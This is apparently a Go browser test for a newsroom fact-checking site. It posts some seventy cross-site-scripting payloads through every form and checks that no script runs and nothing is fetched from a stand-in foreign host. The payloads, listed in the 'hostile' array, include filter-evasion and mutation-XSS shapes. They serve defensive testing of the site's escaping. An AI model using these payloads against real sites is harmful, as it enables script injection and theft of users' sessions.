package main

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// hostile are texts that run a script, or load a stranger's file, where they
// are not escaped for the place they stand in. Each calls fire, which newTrap
// puts into every page.
var hostile = []string{
	// plain elements
	`<script>fire(1)</script>`,
	`<SCRIPT >fire(2)</SCRIPT >`,
	`<scr<script>ipt>fire(3)</script>`,
	`<script src=//strange.example/4.js></script>`,
	`<script>fire(5)//`,
	`<script type=module>fire(6)</script>`,
	`<img src=x onerror=fire(7)>`,
	`<IMG SRC=x OnErRoR="fire(8)">`,
	`<img/src=x/onerror=fire(9)>`,
	`<img src=//strange.example/10.png>`,
	`<svg onload=fire(11)>`,
	`<svg/onload=fire(12)//`,
	`<svg><script>fire(13)</script></svg>`,
	`<svg><animate onbegin=fire(14) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:fire(15)"><text y=20>press</text></a></svg>`,
	`<body onload=fire(16)>`,
	`<details open ontoggle=fire(17)>more</details>`,
	`<input autofocus onfocus=fire(18)>`,
	`<select onmouseover=fire(19)><option>a</select>`,
	`<p tabindex=1 onclick=fire(20) onfocus=fire(20)>press</p>`,
	`<video><source onerror=fire(21)></video>`,
	`<audio src=x onerror=fire(22)>`,
	`<iframe src="javascript:parent.fire(23)"></iframe>`,
	`<iframe srcdoc="<script>parent.fire(24)</script>"></iframe>`,
	`<object data="javascript:fire(25)"></object>`,
	`<embed src="//strange.example/26.svg">`,
	`<link rel=stylesheet href=//strange.example/27.css>`,
	`<style>@import url(//strange.example/28.css);</style>`,
	`<style>*{background:url(//strange.example/29.png)}</style>`,
	`<meta http-equiv=refresh content="0;url=//strange.example/30">`,
	`<base href=//strange.example/31/>`,
	`<form action=//strange.example/32><button>press</button></form>`,
	`<a href="javascript:fire(33)">press</a>`,
	`<a href="java	script:fire(34)">press</a>`,
	`<button formaction="javascript:fire(35)" form=x>press</button>`,

	// out of an attribute
	`" onmouseover="fire(36)`,
	`" autofocus onfocus="fire(37)" x="`,
	`' onclick='fire(38)' x='`,
	`"><img src=x onerror=fire(39)>`,
	`'><svg onload=fire(40)>`,
	`x onmouseover=fire(41) y`,
	`"/><script>fire(42)</script>`,
	`</textarea><img src=x onerror=fire(43)>`,
	`</title><img src=x onerror=fire(44)>`,
	`</option></select><img src=x onerror=fire(45)>`,
	`--><img src=x onerror=fire(46)>`,

	// out of JSON-LD, and of a script's text
	`</script><img src=x onerror=fire(47)>`,
	`</SCRIPT/><svg onload=fire(48)>`,
	`<!--<script>fire(49)</script>`,
	`"};fire(50);{"x":"`,
	"\u2028fire(51)\u2028",

	// shapes that change their meaning when a page is parsed again
	`<noscript><p title="</noscript><img src=x onerror=fire(52)>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fire(53)&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=fire(54)>">`,
	`<template><script>fire(55)</script></template><img src=x onerror=fire(55)>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=fire(56)></annotation-xml></math>`,
	`<xmp><p title="</xmp><img src=x onerror=fire(57)>">`,
	`&lt;img src=x onerror=fire(58)&gt;`,
	`&#60;script&#62;fire(59)&#60;/script&#62;`,

	// Markdown
	`[press](javascript:fire(60))`,
	`[press](JaVaScRiPt:fire(61) "x")`,
	`[press](&#106;avascript:fire(62))`,
	`![x](//strange.example/63.png)`,
	`<javascript:fire(64)>`,
	"[press][r]\n\n[r]: javascript:fire(65)",
	`[press](data:text/html,<script>fire(66)</script>)`,
	`![x](x"onerror="fire(67))`,
	"```\"><img src=x onerror=fire(68)>\nx\n```",

	// templates
	`{{.Constructor}}${fire(69)}<%= fire(69) %>`,
	`<div hx-on:load="fire(70)" hx-get="//strange.example/70" hx-trigger="load">x</div>`,
}

// Every third of hostile is tried on a page that escapes nothing, where at
// least so many must run: a trap that catches nothing there would prove nothing
// elsewhere.
const (
	third = 3
	least = 12
)

// trap runs in every page before its own scripts.
const trap = `window.fired = []; window.fire = (n) => { window.fired.push(n); };
	for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.fire(name);`

// provoke presses, hovers and focuses all there is, without leaving the page.
const provoke = `(() => {
	document.addEventListener("submit", (e) => e.preventDefault(), true);
	document.addEventListener("click", (e) => {
		const a = e.target.closest?.("a, area");
		const to = a && (a.getAttribute("href") ?? a.getAttribute("xlink:href") ?? "");
		if (a && !/^\W*(j|data|vbscript)/i.test(to)) e.preventDefault();
	}, true);
	for (const d of document.querySelectorAll("details")) d.open = true;
	for (const el of document.querySelectorAll("body, body *")) {
		for (const type of ["pointerenter", "mouseenter", "mouseover", "mousemove", "focus", "focusin", "toggle", "animationstart", "click"]) {
			if (el.isConnected && !(type === "click" && el.matches("button, input[type=submit], summary, .file, .file *"))) {
				el.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true}));
			}
		}
	}
	for (const b of document.querySelectorAll("[formaction], [form]")) b.click();
	for (const f of document.forms) f.reset(); // nothing was typed: nothing to warn of
})()`

// newTrap is a tab that catches what runs.
func newTrap(t *testing.T, browser context.Context, base string) *tab {
	t.Helper()
	b := newTab(t, browser, base)
	b.do(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: trap})
		return err
	}))
	return b
}

// caught provokes the page and returns what ran in it. An error means that the
// page went elsewhere meanwhile.
func (b *tab) caught() ([]string, error) {
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	return chromedp.Run(ctx, chromedp.Evaluate[[]string](
		provoke+`;new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(window.fired.map(String)), 30)))`, chromedp.EvalAwaitPromise))
}

// TestBrowserRunsNothingHostile writes hostile texts into every field there is,
// through the forms that people use, and looks at every page in a real browser:
// nothing runs, nothing is fetched from a stranger.
func TestBrowserRunsNothingHostile(t *testing.T) {
	browser := startChromium(t)
	controlFires(t, browser)

	n := openNewsroom(t, filepath.Join(t.TempDir(), "desk.db"))
	n.hire(`Nadia "><img src=x onerror=fire('name')>`, "checker", "editor")
	n.hire("Edith <script>fire('name')</script>", "editor")
	checker, editor := n.poster(t, "Nadia"), n.poster(t, "Edith")
	editor.versions = checker.versions
	paths := []string{"/", "/corrections", "/desk", "/desk/articles"}
	var article strings.Builder
	article.WriteString("Harbour news " + hostile[0] + hostile[6] + "\n\n")
	for i, text := range hostile {
		fmt.Fprintf(&article, "Mayor Petra Olsen said that the harbour handled %d,210 ships last year %s and %d more in May.\n\n", i+4, text, i+12)
	}
	at := checker.article(article.String())
	paths = append(paths, at)
	var works []string // each once: a card leads to its claim in several ways
	for _, work := range regexp.MustCompile(`/desk/reviews/\d+`).FindAllString(checker.get(at), -1) {
		if !slices.Contains(works, work) {
			works = append(works, work)
		}
	}
	if len(works) < len(hostile)/3 {
		t.Fatalf("the article has %d claims; too few to write hostile texts into", len(works))
	}
	for i := 0; i*batch < len(hostile); i++ {
		work := works[i]
		slug := checker.poison(editor, work, hostile[i*batch:min(len(hostile), (i+1)*batch)])
		paths = append(paths, work, "/checks/"+slug)
		if i%3 == 0 {
			paths = append(paths, "/checks/"+slug+"/editions/1") // the same template again
		}
	}
	for _, state := range []string{"triage", "research"} {
		paths = append(paths, "/desk/queue?state="+state)
	}

	b := newTrap(t, browser, n.url)
	b.signIn(mailOf("Nadia"), passphrase)
	for _, path := range paths {
		b.open(path)
		if fired, err := b.caught(); err != nil || len(fired) > 0 {
			t.Errorf("%s ran %v, %v", path, fired, err)
		}
		if at := b.path(); at != strings.Split(path, "?")[0] {
			t.Errorf("%s went to %s", path, at)
		}
	}
	refusedStays(b, works[0])
	b.open(works[0])
	b.shot("40-hostile-claim")
	b.open(paths[5+1])
	b.shot("41-hostile-public")
	b.open(at)
	b.shot("42-hostile-article")
}

// refusedStays sends a form that is refused: what was typed comes back in it,
// and does not run there either.
func refusedStays(b *tab, work string) {
	b.t.Helper()
	all := strings.Join(hostile, " ")
	b.open(work)
	b.do(chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`(() => {
		const form = document.querySelector("#form-evidence form");
		form.noValidate = true;
		for (const field of form.querySelectorAll("input:not([type=hidden], [type=radio], [type=date], [type=file]), textarea")) field.value = %q;
		form.querySelector("[name=url]").value = "javascript:fire('url')//\"><img src=x onerror=fire('url')>";
		form.querySelector("[name=stance]").checked = true;
	})()`, all)))
	b.expect(422)
	if status := b.load("Add evidence", chromedp.Evaluate[chromedp.Void](`document.querySelector("#form-evidence form button").click()`)); status != 422 {
		b.fatal("an address that is a script answers %d", status)
	}
	if fired, err := b.caught(); err != nil || len(fired) > 0 {
		b.t.Errorf("the form that came back ran %v, %v", fired, err)
	}
	if got := b.value("#form-evidence [name=note]"); !strings.Contains(got, hostile[0]) {
		b.t.Errorf("the note came back as %.200q", got)
	}
}

// batch is how many hostile texts go through one check.
const batch = 6

// controlFires proves the trap on a page that escapes nothing.
func controlFires(t *testing.T, browser context.Context) {
	t.Helper()
	raw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text := r.URL.Query().Get("text")
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><title>control</title><p>%s</p><input value="%s"><input value='%s'><script type="application/ld+json">{"x":"%s"}</script>`, text, text, text, text)
	}))
	defer raw.Close()
	b := newTrap(t, browser, raw.URL)
	tried, ran, foreign := 0, 0, 0
	for i := 0; i < len(hostile); i += third {
		text := hostile[i]
		tried++
		ctx, cancel := context.WithTimeout(b.ctx, patience)
		err := chromedp.Do(ctx, chromedp.Navigate(raw.URL+"/?text="+url.QueryEscape(text)))
		cancel()
		fired, lost := b.caught()
		if err != nil || lost != nil {
			continue // it led away from the page, as some do
		}
		if len(fired) > 0 {
			ran++
		}
	}
	for _, c := range b.forget() {
		if strings.Contains(c, "a request to http://strange.example") {
			foreign++
		}
	}
	if ran < least || foreign == 0 {
		t.Fatalf("on a page that escapes nothing %d of %d texts ran and %d requests went to strangers: the trap does not work", ran, tried, foreign)
	}
}

// forget returns the complaints and drops them: for a page that is meant to
// have some.
func (b *tab) forget() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	all := b.complaints
	b.complaints = nil
	return all
}

// poster sends the forms of the desk as a browser does.
type poster struct {
	t        *testing.T
	base     string
	http     *http.Client
	versions map[string]int // of each review, by path, after the last form
}

func (n *newsroom) poster(t *testing.T, name string) *poster {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	stay := func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	p := &poster{t, n.url, &http.Client{Jar: jar, CheckRedirect: stay}, map[string]int{}}
	p.post("/sign-in", url.Values{"email": {mailOf(name)}, "password": {passphrase}})
	return p
}

// want reads an answer that must have that status.
func (p *poster) want(status int, what string, resp *http.Response, err error) string {
	p.t.Helper()
	if err != nil {
		p.t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != status {
		p.t.Fatalf("%s answers %s, %v: %s", what, resp.Status, err, alert.FindAllString(string(data), -1))
	}
	return string(data)
}

var alert = regexp.MustCompile(`(?s)role="alert".*?</(ul|section)>`)

func (p *poster) get(path string) string {
	p.t.Helper()
	resp, err := p.http.Get(p.base + path)
	return p.want(http.StatusOK, path, resp, err)
}

// post sends a form, which must lead elsewhere: it was done.
func (p *poster) post(path string, form url.Values) {
	p.t.Helper()
	resp, err := p.http.PostForm(p.base+path, form)
	p.want(http.StatusSeeOther, path+" "+form.Encode(), resp, err)
}

// article pastes a text and returns the path of its page.
func (p *poster) article(text string) string {
	p.t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	for _, field := range [][2]string{{"url", ""}, {"text", text}} {
		if err := form.WriteField(field[0], field[1]); err != nil {
			p.t.Fatal(err)
		}
	}
	if err := form.Close(); err != nil {
		p.t.Fatal(err)
	}
	resp, err := p.http.Post(p.base+"/desk/articles", form.FormDataContentType(), &body)
	p.want(http.StatusSeeOther, "adding an article", resp, err)
	return resp.Header.Get("Location")
}

var (
	versionIn = regexp.MustCompile(`name="version" value="(\d+)"`)
	checkIn   = regexp.MustCompile(`href="/checks/([^"]+)"`)
)

// on sends a form of a claim page. Each makes the version one more.
func (p *poster) on(work, form string, fields url.Values) {
	p.t.Helper()
	if p.versions[work] == 0 {
		m := versionIn.FindStringSubmatch(p.get(work))
		if m == nil {
			p.t.Fatalf("%s has no form", work)
		}
		p.versions[work], _ = strconv.Atoi(m[1])
	}
	fields.Set("version", strconv.Itoa(p.versions[work]))
	p.post(work+form, fields)
	p.versions[work]++
}

func (p *poster) move(work, action string, fields url.Values) {
	p.t.Helper()
	if fields == nil {
		fields = url.Values{}
	}
	fields.Set("action", action)
	p.on(work, "/moves", fields)
}

// poison takes a claim from triage to a published correction, with hostile
// texts in every field, and returns its slug.
func (p *poster) poison(editor *poster, work string, texts []string) string {
	p.t.Helper()
	address := strings.NewReplacer("\t", "", "\n", "", "\u2028", "", "%", "%25") // what is refused in an address
	line := strings.NewReplacer("\n", " ")                                       // what a browser does not let into a field of one line
	all := strings.Join(texts, " ")
	p.move(work, "accept", url.Values{
		"text": {all}, "short_form": {line.Replace(texts[0])}, "kind": {"quantity"}, "lang": {"en"}, "claimant": {"Olsen " + line.Replace(texts[1%len(texts)])},
		"claimant_kind": {"person"}, "said_at": {"2026-03-01"}, "chosen": {all},
	})
	p.move(work, "take", nil)
	for i, text := range texts {
		p.on(work, "/evidence", url.Values{
			"url": {fmt.Sprintf("https://source%d.example/?q=%s", i, address.Replace(text))}, "archive_url": {"https://archive.example/" + address.Replace(text)},
			"title": {line.Replace(text)}, "publisher": {line.Replace(text)}, "quote": {text}, "note": {text},
			"no_copy": {text}, "behind": {line.Replace(text)}, "interest": {text}, "origin": {"primary"},
			"stance": {[]string{"supports", "refutes", "context"}[i%3]}, "accessed_at": {"2026-03-01"},
		})
	}
	verdict := func(more string) url.Values {
		return url.Values{
			"rating": {"half_true"}, "summary": {more + all}, "rationale": {more + "See [1].\n\n" + strings.Join(texts, "\n\n")},
			"one_source": {line.Replace(texts[0])}, "no_conflict": {"yes"},
		}
	}
	p.on(work, "/verdict", verdict(""))
	p.move(work, "submit", nil)
	editor.move(work, "return", url.Values{"note": {all}})
	p.move(work, "submit", nil)
	editor.move(work, "approve", nil)
	editor.move(work, "publish", nil)
	editor.move(work, "correct", url.Values{"correction": {"correction"}, "note": {all}, "assignee": {"1"}})
	p.on(work, "/verdict", verdict("Again: "))
	p.move(work, "submit", nil)
	editor.move(work, "approve", nil)
	editor.move(work, "publish", nil)
	m := checkIn.FindStringSubmatch(p.get(work))
	if m == nil {
		p.t.Fatalf("%s was not published", work)
	}
	correction := url.Values{"correction": {"update"}, "note": {all}, "assignee": {"1"}}
	editor.move(work, "correct", correction) // so that every text stands in a form, too
	return html.UnescapeString(m[1])
}
